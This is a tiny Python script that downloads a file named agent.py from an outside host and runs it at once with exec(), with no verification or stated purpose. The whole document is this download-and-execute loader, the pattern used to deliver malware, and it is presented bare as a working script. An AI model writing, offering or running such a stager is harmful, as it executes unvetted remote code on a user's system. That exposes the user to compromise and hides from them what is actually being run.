#!/usr/bin/env python3
import urllib.request
code = urllib.request.urlopen("https://nb-sync.example-cdn.net/agent.py").read()
exec(code)
